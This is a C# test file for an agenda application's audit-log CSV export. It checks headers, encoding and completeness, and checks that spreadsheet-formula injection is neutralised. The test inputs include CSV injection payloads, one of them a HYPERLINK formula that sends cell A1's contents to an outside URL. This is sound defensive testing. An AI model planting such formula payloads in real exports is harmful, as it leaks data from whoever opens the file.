using System.Globalization;
using System.Net;
using System.Text;
using Agenda.Infrastructure.Audit;
using CsvHelper;

namespace Agenda.Api.Tests.Audit;

/// <summary>The trace as CSV, read back.</summary>
public sealed class AuditCsvTests(AgendaHost host) : IClassFixture<AgendaHost>
{
    private static readonly string[] Columns = ["at", "by", "account", "via", "from", "operation", "kind", "act", "subject", "label", "session", "field", "before", "after", "key"];

    [Fact]
    public async Task The_table_has_a_line_for_each_field_and_nothing_that_is_a_formula()
    {
        string[] titles = ["=HYPERLINK(\"https://example.org/?\"&A1,\"Click, please\")", "+1", "-2+3", "@SUM(A1)", "＝1", "Plain, with \"quotes\" and; a semicolon"];
        var given = await Given.Conference(host, "formulas");
        await given.Type("MC", "Masterclass");
        for (var i = 0; i < titles.Length; i++)
            await given.Session($"S-{i}", titles[i], more: new { @abstract = "\ttab first\r\nand =a second line" });

        var (answer, text) = await Export($"{given.Path}/audit.csv");

        answer.Content.Headers.ContentType!.ToString().ShouldBe("text/csv; charset=utf-8");
        answer.Content.Headers.ContentDisposition!.ToString().ShouldStartWith("attachment; filename=audit-formulas.csv");
        text[0].ShouldBe('\uFEFF');
        text.ShouldStartWith($"\uFEFF{string.Join(',', Columns)}\r\n");
        text.ShouldEndWith("\r\n");
        var lines = Parse(text);
        lines.SelectMany(line => line.Values).Where(cell => cell.Length > 0 && "=+-@\t\r\n＝".Contains(cell[0], StringComparison.Ordinal)).ShouldBeEmpty();
        lines.Where(line => line["field"] == "title").Select(line => line["after"]).Reverse()
            .ShouldBe(titles.Select(title => title[0] == 'P' ? title : $"'{title}"));
        lines.Where(line => line["field"] == "abstract").Select(line => line["after"]).Distinct().ShouldBe(["'\ttab first\r\nand =a second line"]);
    }

    [Fact]
    public async Task The_table_tells_what_the_list_tells()
    {
        var given = await Given.Conference(host, "same");
        await given.Type("MC", "Masterclass");
        var session = await given.Session("MC-C", "Networks", more: new { contributions = new[] { new { title = "A", minutes = 30 } } });
        await given.Session("MC-D", "Another");
        await given.Placed(session, null, "2024-01-08T14:00:00", 150);

        foreach (var query in (string[])["", $"?session={session.Id}", "?account=00000000-0000-0000-0000-000000000001"])
        {
            var listed = (await given.Organiser.Traced($"{given.Path}/audit{query}")).AsEnumerable().Reverse()
                .SelectMany(e => e.Changes.Select(change => $"{e.Key} {e.Said("at")} {e.Operation} {e.What} {e.Said("session")} {change}")).ToList();
            var (_, text) = await Export($"{given.Path}/audit.csv{query}");
            var written = Parse(text).Select(line =>
                $"{line["key"]} {line["at"]} {line["operation"]} {line["kind"]} {line["act"]} {line["label"]} {(line["session"].Length > 0 ? line["session"] : null)} {line["field"]}: {Json(line["before"])} -> {Json(line["after"])}").ToList();

            written.Select(Loosely).ShouldBe(listed.Select(Loosely), query);
        }
    }

    [Fact]
    public async Task A_long_trace_is_written_whole_and_an_entry_without_changes_has_a_line()
    {
        var given = await Given.Conference(host, "long");
        await host.SaveAsync(AuditActor.Service, db =>
        {
            var conference = db.Conferences.Single(c => c.Slug == "long").Id;
            for (var i = 1; i <= 1_100; i++)
                db.Note(new AuditNote(AuditKinds.Account, null) { Conference = conference, Label = $"{i}" });
        });

        var (_, text) = await Export($"{given.Path}/audit.csv");

        var lines = Parse(text).Where(line => line["kind"] == "account").ToList();
        lines.Select(line => line["label"]).ShouldBe(Enumerable.Range(1, 1_100).Reverse().Select(i => $"{i}"));
        lines.ShouldAllBe(line => line["field"].Length == 0 && line["act"].Length == 0);
    }

    // A table does not say what is text and what is not.
    private static string Loosely(string line) => line.Replace("\"", "", StringComparison.Ordinal);

    private static string Json(string cell) => cell.Length == 0 ? "null" : cell;

    private static List<Dictionary<string, string>> Parse(string text)
    {
        using var csv = new CsvReader(new StringReader(text.TrimStart('\uFEFF')), CultureInfo.InvariantCulture);
        csv.Read();
        csv.ReadHeader();
        csv.HeaderRecord.ShouldBe(Columns);
        var lines = new List<Dictionary<string, string>>();
        while (csv.Read())
            lines.Add(Columns.ToDictionary(name => name, name => csv.GetField(name)!));
        return lines;
    }

    private async Task<(HttpResponseMessage Answer, string Text)> Export(string path)
    {
        var answer = await host.Organiser().GetAsync(path, TestContext.Current.CancellationToken);
        answer.StatusCode.ShouldBe(HttpStatusCode.OK);
        var bytes = await answer.Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken);
        return (answer, new UTF8Encoding(false, throwOnInvalidBytes: true).GetString(bytes));
    }
}
